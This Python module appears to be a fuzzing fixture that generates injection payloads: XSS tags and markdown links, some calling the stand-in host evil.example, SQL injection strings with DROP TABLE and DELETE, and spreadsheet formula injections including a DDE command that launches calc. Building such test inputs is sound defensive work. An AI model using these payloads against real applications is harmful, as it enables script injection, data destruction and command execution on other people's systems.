"""Strings made to be run: by a browser, by a database, by a spreadsheet."""

from itertools import product

EVIL = "//evil.example/"
_TAGS = (
    "<img src=x onerror={act}>",
    "<svg onload={act}>",
    "<iframe srcdoc='<script>{act}</script>'>",
    "<details open ontoggle={act}>x",
    "<a href=javascript:{act}>x</a>",
    "</textarea><script>{act}</script>",
    "<math><mtext></p><style><img src onerror={act}>",
    "<body/onpageshow={act}>",
    "<input autofocus onfocus={act}>",
    "<video><source onerror={act}>",
)
_ACTS = ("alert(1)", "window.ran=1", "fetch('//evil.example')")
_MARKDOWN = (
    *("![x](http:{evil}a.png)", "[x](javascript:alert(1))", "[x]: http:{evil}b", "<http:{evil}c>"),
    *("http:{evil}d", "www.evil.example", ":red[x] :material/home:", "$\\href{{http:{evil}}}x$"),
    *("`x` **b** # h", "| a | b |", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x&#62;"),
    *("\\u003cscript\\u003e", "%3Cscript%3E", "{{{{7*7}}}}", "${{7*7}}", "<%= 7*7 %>"),
    *("'-alert(1)-'", '";alert(1);//', "--><img src=x>", "]]><img src=x>"),
    *("<style>*{{background:url(http:{evil}e)}}", "<link rel=stylesheet href=http:{evil}f>"),
    *(
        "<base href=http:{evil}>",
        "<meta http-equiv=refresh content=0>",
        "<form action=http:{evil}>",
    ),
    *(
        "<script src=http:{evil}g.js></script>",
        "<object data=http:{evil}h>",
        "<embed src=http:{evil}i>",
    ),
    "data:text/html,<script>alert(1)</script>",
)
XSS = [tag.format(act=act) for tag, act in product(_TAGS, _ACTS)]
XSS += [word.format(evil=EVIL) for word in _MARKDOWN]
_TABLES = ("sales", "audit", "accounts", "customers", "sessions")
_BREAKS = ("'", '"', "')", '")', "';", "`", "\\'", "%27", "1", "%")
_SQL = (
    "{q}; DROP TABLE {t}; --",
    "{q} OR 1=1 --",
    "{q} UNION SELECT * FROM {t} --",
    "{q}); DELETE FROM {t}; --",
    "{q} AND (SELECT count(*) FROM {t})>0 --",
    "{q}||(SELECT 1 FROM {t})||{q}",
)
SQL = [
    form.format(q=mark, t=_TABLES[number % len(_TABLES)])
    for number, (form, mark) in enumerate(product(_SQL, _BREAKS))
]
FORMULAS = [
    f"{start}{rest}"
    for start, rest in product(
        ("=", "+", "-", "@", "\t=", "＝", "＋", "－", "＠", "\r="),
        ('HYPERLINK("http://evil.example")', "cmd|' /C calc'!A0"),
    )
]
EVERY = ["two\n\n# lines\n===", *XSS[:60], *SQL, *FORMULAS]
